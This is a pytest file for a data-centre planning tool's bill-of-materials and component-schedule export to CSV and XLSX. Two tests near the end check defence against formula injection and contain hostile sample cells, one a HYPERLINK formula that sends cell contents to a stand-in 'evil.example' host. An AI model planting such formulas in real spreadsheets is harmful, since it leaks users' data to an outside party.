"""Bill of materials and component schedule, read back with csv and openpyxl; hand-counted totals."""

from __future__ import annotations

import csv
import math
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pytest
from openpyxl import load_workbook

from designer.io import atomic_write
from designer.io.catalog_io import load_catalog
from designer.io.export_bom import (
    BOM_HEADER,
    BOM_SHEET,
    SCHEDULE_HEADER,
    SCHEDULE_SHEET,
    BomRow,
    ComponentScheduleRow,
    bill_of_materials,
    bom_totals,
    schedule_rows_from_results,
    write_bom_csv,
    write_bom_xlsx,
    write_schedule_csv,
)
from designer.io.project_file import load_project
from designer.io.resources import examples_dir
from designer.model import (
    Catalog,
    CatalogEntry,
    Confidence,
    Hall,
    ItemKind,
    PlacedItem,
    Project,
    Role,
    WorkloadClass,
)

EXAMPLE_FILES = sorted(examples_dir().glob("*.dcplan"))


def small_catalog() -> Catalog:
    def entry(entry_id: str, kind: ItemKind, role: Role, **fields: object) -> CatalogEntry:
        return CatalogEntry(id=entry_id, kind=kind, role=role, name=f"Name of {entry_id}", source=f"src {entry_id}",
                            confidence=Confidence.SECONDARY, **fields)  # type: ignore[arg-type]  # fmt: skip

    return Catalog(
        [
            entry(
                "rack.100",
                ItemKind.RACK,
                Role.RACK,
                width_mm=600.0,
                depth_mm=1200.0,
                capacity_kw=100.0,
                weight_kg=1500.0,
                workload=WorkloadClass.TRAINING,
            ),
            entry(
                "ups.500",
                ItemKind.POWER,
                Role.UPS,
                width_mm=2400.0,
                depth_mm=1000.0,
                capacity_kw=500.0,
                weight_kg=2000.0,
            ),
            entry(
                "crah.150",
                ItemKind.COOLING,
                Role.CRAH,
                width_mm=2500.0,
                depth_mm=900.5,
                capacity_kw=150.0,
                weight_kg=800.0,
            ),
            entry("util", ItemKind.POWER, Role.UTILITY, width_mm=0.0, depth_mm=0.0, capacity_kw=10000.0),
        ]
    )


def small_project() -> Project:
    """3 racks of 100 kW (one overridden to 80 kW), 2 UPS of 500 kW, 1 CRAH; a second hall with a UPS."""
    project = Project()
    project.add_hall(Hall("h1", "Hall 1", ((0, 0), (20000, 0), (20000, 10000), (0, 10000))))
    project.add_hall(Hall("h2", "Plant", ((0, 0), (20000, 0), (20000, 10000), (0, 10000))))
    project.add_items(
        [
            PlacedItem("r1", "rack.100", "h1", 1000, 1000, label="R1"),
            PlacedItem("r2", "rack.100", "h1", 1600, 1000, label="R2", design_kw=80.0),
            PlacedItem("r3", "rack.100", "h1", 2200, 1000, label="R3"),
            PlacedItem("u1", "ups.500", "h1", 5000, 5000, label="UPS 1"),
            PlacedItem("u2", "ups.500", "h2", 5000, 5000, label="UPS 2"),
            PlacedItem("c1", "crah.150", "h1", 9000, 5000),
            PlacedItem("g1", "util", "h2", 100, 100),
        ]
    )
    return project


def test_hand_counted_bill_of_materials() -> None:
    rows = bill_of_materials(small_project(), small_catalog())
    assert [row.catalog_id for row in rows] == ["rack.100", "ups.500", "util", "crah.150"]  # rack, power, cooling
    rack, ups, util, crah = rows
    assert rack == BomRow(
        catalog_id="rack.100", name="Name of rack.100", kind="rack", role="rack", count=3,
        unit_rating_kw=100.0, total_rating_kw=280.0, unit_weight_kg=1500.0, total_weight_kg=4500.0,
        footprint_mm="600 x 1200", source="src rack.100", confidence="S",
        overrides="design kW overridden on 1 of 3",
    )  # fmt: skip
    assert (ups.count, ups.total_rating_kw, ups.total_weight_kg) == (2, 1000.0, 4000.0)
    assert (util.count, util.footprint_mm) == (1, "0 x 0")
    assert (crah.count, crah.total_rating_kw, crah.footprint_mm) == (1, 150.0, "2500 x 900.5")


def test_overridden_units_get_their_own_marked_row() -> None:
    project = small_project()
    items = project.items
    project.update_items([replace(items["u2"], design_kw=250.0), replace(items["r3"], weight_kg=1200.0)])
    rows = bill_of_materials(project, small_catalog())
    assert [(r.catalog_id, r.count, r.unit_rating_kw, r.unit_weight_kg, r.overrides) for r in rows] == [
        ("rack.100", 2, 100.0, 1500.0, "design kW overridden on 1 of 2"),
        ("rack.100", 1, 100.0, 1200.0, "weight 1,200 kg (catalog 1,500 kg)"),
        ("ups.500", 1, 500.0, 2000.0, ""),
        ("ups.500", 1, 250.0, 2000.0, "rating 250 kW (catalog 500 kW)"),
        ("util", 1, 10000.0, 0.0, ""),
        ("crah.150", 1, 150.0, 800.0, ""),
    ]
    # racks: 2 x 1500 + 1200 = 4200 kg; UPS ratings 500 + 250 = 750 kW
    totals = {t.label: t for t in bom_totals(rows)}
    assert totals["Subtotal rack"].total_weight_kg == 4200.0
    assert totals["Subtotal power"].total_rating_kw == 10750.0


def test_schedule_marks_a_rating_from_an_override() -> None:
    project = small_project()
    project.update_items([replace(project.items["u2"], design_kw=250.0)])
    fake = SimpleNamespace(
        component_ids=np.array(["u1", "u2"]), component_kinds=np.array(["power", "power"]),
        component_roles=np.array(["ups", "ups"]), component_load_kw=np.array([400.0, 200.0]),
        component_capacity_kw=np.array([500.0, 250.0]), component_utilization=np.array([0.8, 0.8]),
        component_worst_failure_utilization=np.array([np.nan, np.nan]),
    )  # fmt: skip
    rows = schedule_rows_from_results(fake, project)  # type: ignore[arg-type]
    assert [row.capacity_from for row in rows] == ["catalog", "override"]
    assert schedule_rows_from_results(fake)[1].capacity_from == ""  # type: ignore[arg-type]


def test_one_hall_only() -> None:
    rows = bill_of_materials(small_project(), small_catalog(), hall_id="h2")
    assert [(row.catalog_id, row.count) for row in rows] == [("ups.500", 1), ("util", 1)]


def test_unknown_catalog_id_names_the_item() -> None:
    with pytest.raises(ValueError, match=r"item 'r1': unknown catalog id 'rack\.100'"):
        bill_of_materials(small_project(), Catalog())


def test_totals_add_per_kind_and_never_mix_kinds_of_kw() -> None:
    totals = bom_totals(bill_of_materials(small_project(), small_catalog()))
    assert [(t.label, t.count, t.total_rating_kw, t.total_weight_kg) for t in totals] == [
        ("Subtotal rack", 3, 280.0, 4500.0),
        ("Subtotal power", 3, 11000.0, 4000.0),
        ("Subtotal cooling", 1, 150.0, 800.0),
        ("Total", 7, None, 9300.0),
    ]


def test_csv_reads_back_with_the_csv_module(tmp_path: Path) -> None:
    path = tmp_path / "bom.csv"
    write_bom_csv(bill_of_materials(small_project(), small_catalog()), path)
    with path.open(newline="", encoding="utf-8") as stream:
        records = list(csv.DictReader(stream))
    assert list(records[0]) == list(BOM_HEADER)
    by_id = {r["Catalog id"]: r for r in records}
    rack = by_id["rack.100"]
    assert (int(rack["Count"]), float(rack["Total rating kW"]), float(rack["Unit rating kW"])) == (3, 280.0, 100.0)
    assert rack["Footprint mm"] == "600 x 1200"
    assert float(by_id["Subtotal rack"]["Total rating kW"]) == 280.0
    total = by_id["Total"]
    assert (int(total["Count"]), total["Total rating kW"], float(total["Total weight kg"])) == (7, "", 9300.0)
    assert len(records) == 4 + 4  # item rows, then three subtotals and the total


def test_csv_without_totals(tmp_path: Path) -> None:
    path = tmp_path / "bom.csv"
    write_bom_csv(bill_of_materials(small_project(), small_catalog()), path, include_totals=False)
    with path.open(newline="", encoding="utf-8") as stream:
        assert [r["Catalog id"] for r in csv.DictReader(stream)] == ["rack.100", "ups.500", "util", "crah.150"]


def schedule() -> list[ComponentScheduleRow]:
    return [
        ComponentScheduleRow("u1", "UPS 1", "power", "ups", 400.0, 500.0, 0.8, 1.6),
        ComponentScheduleRow("c1", "", "cooling", "crah", 90.0, 150.0, 0.6, math.nan),
    ]


def test_xlsx_reads_back_with_openpyxl(tmp_path: Path) -> None:
    path = tmp_path / "bom.xlsx"
    write_bom_xlsx(bill_of_materials(small_project(), small_catalog()), path, schedule())
    workbook = load_workbook(path)
    assert workbook.sheetnames == [BOM_SHEET, SCHEDULE_SHEET]
    sheet = workbook[BOM_SHEET]
    assert [c.value for c in sheet[1]] == list(BOM_HEADER)
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[2]] == [
        "rack.100", "Name of rack.100", "rack", "rack", 3, 100, 280, 1500, 4500,
        "600 x 1200", "src rack.100", "S", "design kW overridden on 1 of 3",
    ]  # fmt: skip
    assert sheet.cell(2, 7).number_format == "#,##0.0"
    assert sheet.column_dimensions["B"].width > 8
    last = [c.value for c in sheet[sheet.max_row]]
    assert (last[0], last[4], last[6], last[8]) == ("Total", 7, None, 9300)
    assert sheet.cell(sheet.max_row, 1).font.bold
    assert sheet.max_row == 1 + 4 + 4
    table = workbook[SCHEDULE_SHEET]
    assert [c.value for c in table[1]] == list(SCHEDULE_HEADER)
    assert [c.value for c in table[2]] == ["u1", "UPS 1", "power", "ups", 400, 500, 0.8, 1.6, None]
    assert [c.value for c in table[3]][-1] is None  # NaN: not analysed
    assert table.cell(2, 7).number_format == "0.0%"


def test_xlsx_without_schedule_has_one_sheet(tmp_path: Path) -> None:
    path = tmp_path / "bom.xlsx"
    write_bom_xlsx([], path)
    workbook = load_workbook(path)
    assert workbook.sheetnames == [BOM_SHEET]
    assert workbook[BOM_SHEET].cell(2, 1).value == "Total"


def test_schedule_csv_reads_back(tmp_path: Path) -> None:
    path = tmp_path / "schedule.csv"
    write_schedule_csv(schedule(), path)
    with path.open(newline="", encoding="utf-8") as stream:
        records = list(csv.DictReader(stream))
    assert list(records[0]) == list(SCHEDULE_HEADER)
    assert (records[0]["Id"], float(records[0]["Utilization"]), float(records[0]["Load kW"])) == ("u1", 0.8, 400.0)
    assert records[1]["Worst single-failure utilization"] == ""


def test_schedule_rows_from_results_reads_the_component_arrays() -> None:
    fake = SimpleNamespace(
        component_ids=np.array(["u1", "c1"]),
        component_kinds=np.array(["power", "cooling"]),
        component_roles=np.array(["ups", "crah"]),
        component_load_kw=np.array([400.0, 90.0]),
        component_capacity_kw=np.array([500.0, 150.0]),
        component_utilization=np.array([0.8, 0.6]),
        component_worst_failure_utilization=np.array([1.6, np.nan]),
    )
    rows = schedule_rows_from_results(fake, small_project())  # type: ignore[arg-type]
    assert replace(rows[0], capacity_from="") == schedule()[0]
    assert rows[0].capacity_from == "catalog"
    assert rows[1].label == "" and math.isnan(rows[1].worst_single_failure_utilization)


def test_schedule_rows_from_a_real_analysis(tmp_path: Path) -> None:
    engine = pytest.importorskip("designer.analysis.engine")
    catalog = load_catalog(include_user=False)
    project = load_project(examples_dir() / "retrofit.dcplan", catalog)
    results = engine.analyze(project, catalog.merged(project.custom_catalog.values()))
    rows = schedule_rows_from_results(results, project)
    assert [row.id for row in rows] == results.component_ids.tolist()
    assert all(row.kind in {"power", "cooling"} for row in rows)
    assert any(row.label for row in rows)
    write_bom_xlsx(bill_of_materials(project, catalog), tmp_path / "r.xlsx", rows)
    assert load_workbook(tmp_path / "r.xlsx")[SCHEDULE_SHEET].max_row == len(rows) + 1


@pytest.mark.parametrize("write", [write_bom_csv, write_bom_xlsx])
def test_missing_folder_is_an_os_error_naming_the_file(tmp_path: Path, write: object) -> None:
    path = tmp_path / "missing" / "bom.out"
    with pytest.raises(OSError, match=r"cannot write the bill of materials.* .*missing.*bom\.out"):
        write([], path)  # type: ignore[operator]
    assert not path.parent.exists()


def test_failed_write_keeps_the_old_file_and_leaves_no_temp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "schedule.csv"
    path.write_bytes(b"old")

    def refuse(src: str, dst: str) -> None:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(atomic_write.os, "replace", refuse)
    with pytest.raises(OSError, match=r"cannot write the component schedule .*schedule\.csv: Permission denied"):
        write_schedule_csv(schedule(), path)
    monkeypatch.undo()
    assert path.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == ["schedule.csv"]


@pytest.mark.parametrize("example", EXAMPLE_FILES, ids=lambda p: p.stem)
def test_every_example_gives_a_bill_of_materials(example: Path, tmp_path: Path) -> None:
    catalog = load_catalog(include_user=False)
    project = load_project(example, catalog)
    rows = bill_of_materials(project, catalog)
    assert sum(row.count for row in rows) == len(project.items)
    rack_kw = sum(
        (i.design_kw if i.design_kw is not None else catalog[i.catalog_id].capacity_kw)
        for i in project.items.values()
        if catalog[i.catalog_id].is_rack
    )
    assert math.fsum(r.total_rating_kw for r in rows if r.kind == "rack") == pytest.approx(rack_kw)
    write_bom_csv(rows, tmp_path / "bom.csv")
    write_bom_xlsx(rows, tmp_path / "bom.xlsx")
    with (tmp_path / "bom.csv").open(newline="", encoding="utf-8") as stream:
        assert len(list(csv.DictReader(stream))) == len(rows) + len(bom_totals(rows))
    assert load_workbook(tmp_path / "bom.xlsx")[BOM_SHEET].max_row == 1 + len(rows) + len(bom_totals(rows))


def test_hostile_text_stays_text(tmp_path: Path) -> None:
    """A label that looks like a formula, control characters and a lone surrogate: stored as plain text."""
    rows = [
        ComponentScheduleRow("u1", '=HYPERLINK("http://x")', "power", "ups", 1.0, 2.0, 0.5, 0.5),
        ComponentScheduleRow("u2", "bell\x07 and \udc80", "power", "ups", 1.0, 2.0, 0.5, math.inf),
        ComponentScheduleRow("u3", "tab\tstays,\x1f unit separator\x0b goes", "power", "ups", 1.0, 2.0, 0.5, 0.5),
    ]
    write_bom_xlsx([], tmp_path / "s.xlsx", rows)
    table = load_workbook(tmp_path / "s.xlsx")[SCHEDULE_SHEET]
    assert table.cell(2, 2).value == '=HYPERLINK("http://x")'
    assert table.cell(2, 2).data_type == "s"
    assert table.cell(3, 2).value == "bell  and ?"
    assert table.cell(3, 8).value is None  # infinity: empty
    assert table.cell(4, 2).value == "tab\tstays,  unit separator  goes"  # ASCII text: the same cleaning
    write_schedule_csv(rows, tmp_path / "s.csv")
    with (tmp_path / "s.csv").open(newline="", encoding="utf-8") as stream:
        # a spreadsheet would run the formula: the CSV cell starts with ' (the XLSX cell is typed as text)
        assert [r["Label"] for r in csv.DictReader(stream)] == [
            '\'=HYPERLINK("http://x")', "bell\x07 and ?", "tab\tstays,\x1f unit separator\x0b goes"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_bom_csv_escapes_cells_a_spreadsheet_would_run_as_formulas(tmp_path: Path, start: str) -> None:
    """Issue 14 item 11: a catalog name ``=HYPERLINK(...)`` went into the BOM CSV unescaped."""
    name = f'{start}HYPERLINK("http://evil.example/?x="&A1, "click")'
    row = BomRow("x", name, "power", "ups", 1, 10.0, 10.0, 5.0, 5.0, "600 x 600", "@source", "E")
    write_bom_csv([row], tmp_path / "bom.csv", include_totals=False)
    with (tmp_path / "bom.csv").open(newline="", encoding="utf-8") as stream:
        record = next(csv.DictReader(stream))
    assert record["Name"] == "'" + name
    assert record["Source"] == "'@source"
    assert record["Catalog id"] == "x"  # ordinary text is left alone


def test_xlsx_lists_the_references_its_rows_cite(tmp_path: Path) -> None:
    from designer.io.catalog_io import load_catalog
    from designer.io.export_bom import REFERENCES_SHEET, bom_references
    from designer.io.project_file import load_project
    from designer.io.resources import examples_dir

    catalog = load_catalog(include_user=False)
    rows = bill_of_materials(load_project(examples_dir() / "retrofit.dcplan", catalog), catalog)
    citations = bom_references(rows)
    assert citations and all("(not in the bibliography)" not in line for line in citations)
    path = tmp_path / "bom.xlsx"
    write_bom_xlsx(rows, path)
    workbook = load_workbook(path)
    assert workbook.sheetnames == [BOM_SHEET, REFERENCES_SHEET]
    assert [c.value for c in workbook[REFERENCES_SHEET]["A"]][1:] == citations
